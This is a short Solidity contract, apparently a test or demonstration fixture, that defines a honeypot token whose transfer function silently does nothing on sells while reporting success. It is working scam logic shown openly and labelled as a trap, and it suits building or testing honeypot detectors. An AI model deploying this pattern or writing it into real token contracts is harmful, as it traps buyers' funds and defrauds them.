// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {PlainToken} from "./PlainToken.sol";

/// Trap: a sell reports success and moves nothing.
contract HoneypotSilent is PlainToken {
    constructor(string memory name_, string memory symbol_, uint8 decimals_, uint256 supply)
        PlainToken(name_, symbol_, decimals_, supply)
    {}

    function _move(address from, address to, uint256 value) internal override {
        if (_isSell(from, to)) return;
        _settle(from, to, value);
    }
}
